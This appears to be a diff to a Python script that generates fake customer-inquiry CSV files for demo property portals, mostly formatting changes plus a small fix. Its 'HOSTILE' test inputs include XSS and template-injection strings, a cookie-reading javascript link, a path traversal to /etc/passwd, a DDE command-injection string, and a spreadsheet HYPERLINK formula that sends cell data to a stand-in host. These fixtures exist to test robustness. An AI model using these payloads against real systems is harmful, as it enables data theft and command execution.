@@ -98,12 +98,12 @@ HOSTILE = {
         ("name", '"Comillas" "dobles"; y; puntos; y comas'),
         ("phone", "llámame al seis uno dos, o pregunta por Paco"),
         ("email", "esto no es un correo"),
-        ("message", "Línea 1\r\nLínea 2;con;separadores\r\n\r\n\"y comillas\"\r\n" * 5),
+        ("message", 'Línea 1\r\nLínea 2;con;separadores\r\n\r\n"y comillas"\r\n' * 5),
     ],
     "b": [
         ("message", "<img src=x onerror=alert(1)> {{7*7}} ${7*7} %s %(name)s"),
         ("name", "<h1>Wielki</h1> Klient"),
-        ("subject", "Robert\tTabulator\toraz \"cudzysłów\""),
+        ("subject", 'Robert\tTabulator\toraz "cudzysłów"'),
         ("email", "dwa.adresy@example.com; drugi.adres@example.org"),
         ("phone", "+48 (0) 12 3456789012345678901234567890"),
         ("message", "Zażółć gęślą jaźń. " * 1200),
@@ -112,14 +112,14 @@ HOSTILE = {
         ("name", "🏖️🏡 Sunny & Co 👨‍👩‍👧‍👦"),
         ("subject", "مرحبا، هل الشقة متاحة؟ \u202ereversed\u202c"),
         ("name", "שירה בן־דוד"),
-        ("message", "=HYPERLINK(\"http://evil.example.net?x=\"&A1,\"click\")\n@SUM(1+1)"),
+        ("message", '=HYPERLINK("http://evil.example.net?x="&A1,"click")\n@SUM(1+1)'),
         ("subject", "-2+3+cmd|' /C notepad'!A0"),
-        ("message", "<a href=\"javascript:alert(document.cookie)\">win</a><!-- "),
+        ("message", '<a href="javascript:alert(document.cookie)">win</a><!-- '),
         ("name", "A" * 400),
         ("subject", "Z̸͎̔a̵͕͌l̶̟̕g̷͍̈o̸̳͝ wants a flat " * 8),
         ("city", "../../../../etc/passwd"),
         ("message", "Lorem ipsum dolor sit amet, " * 1500),
-        ("email", "\"very.(),:;<>[]\\\".VERY\"@example.com"),
+        ("email", '"very.(),:;<>[]\\".VERY"@example.com'),
         ("name", "None"),
     ],
 }
@@ -211,7 +211,9 @@ class Maker:
         firsts, lasts = NAMES[LANGUAGE.get(country, "fr")]
         first, last = self.pick(firsts.split()), self.pick(lasts.split())
         self.number += self.random.randrange(7, 60)
-        address = f"{plain(first)}{self.pick(['.', '_', ''])}{plain(last)}{self.number % 97}"
+        address = (
+            f"{plain(first)}{self.pick(['.', '_', ''])}{plain(last)}{self.number % 97}"
+        )
         return {
             "name": f"{first} {last}",
             "email": f"{address}@example.{self.pick(['com', 'org', 'net'])}",
@@ -276,7 +278,9 @@ class Maker:
             "country": self.pick(COUNTRIES[person["country"]]),
             "budget": self.random.randrange(90, 700) * 1000 if self.chance(60) else "",
             "message": self.pick(MESSAGES[language]),
-            "consents": self.pick(["", "CALL", "CALL", "CALL,NEWS", "CALL,SHARE", "NEWS"]),
+            "consents": self.pick(
+                ["", "CALL", "CALL", "CALL,NEWS", "CALL,SHARE", "NEWS"]
+            ),
         }
         if self.chance(15):
             lead["email"] = f"  {lead['email'].upper()} "
@@ -321,6 +325,9 @@ class Maker:
         lead["name"] = customer["name"]
         lead["country"] = customer["country"]
         lead["company"] = ""
+        language = LANGUAGE.get(customer["country"], "en")
+        lead["subject"] = self.pick(SUBJECTS[language])
+        lead["message"] = self.pick(MESSAGES[language])
         if by_phone or not customer["email"]:
             lead["email"] = ""
             lead["phone"] = self.rewrite(customer["phone"], customer["country"])
@@ -351,7 +358,9 @@ class Maker:
             self.random.shuffle(spots)
         again = [c for c in self.customers if c["advisor"] in ("anna", "greta", "ines")]
         # the English desk would take what has an English country
-        wanted = [c for c in self.customers + again[:6] if c["country"] not in ("GB", "IE")]
+        wanted = [
+            c for c in self.customers + again[:6] if c["country"] not in ("GB", "IE")
+        ]
         for place, customer in enumerate(wanted):
             kind = "north" if customer["advisor"] in NORTH_STAFF else "south"
             self.known(places[kind].pop(), customer, place % 2)
@@ -379,7 +388,8 @@ class Maker:
         """Deliver some again: the same reference, a little later in the file."""
         leads = [lead for _kind, lead in pairs]
         again = [
-            lead for lead in leads[: len(leads) // 2]
+            lead
+            for lead in leads[: len(leads) // 2]
             if lead["source"] and lead["name"] not in self.customer_names
         ]
         for lead in self.random.sample(again, REPEATED[portal]):
@@ -389,7 +399,9 @@ class Maker:
 
 
 def spanish(value):
-    return f"{value:,}".replace(",", ".") + (",00" if value % 3 else "") if value else ""
+    return (
+        f"{value:,}".replace(",", ".") + (",00" if value % 3 else "") if value else ""
+    )
 
 
 def columns_a(lead):
@@ -469,7 +481,9 @@ def main():
         path = DEMO / f"portal_{portal}.csv"
         # what a portal's old encoding cannot say, it says with a question mark
         path.write_bytes(text.getvalue().encode(encoding, "replace"))
-        print(f"{path.name}: {len(rows)} rows, {len({row['ref'] for row in made[portal]})} inquiries")
+        print(
+            f"{path.name}: {len(rows)} rows, {len({row['ref'] for row in made[portal]})} inquiries"
+        )
 
 
 if __name__ == "__main__":
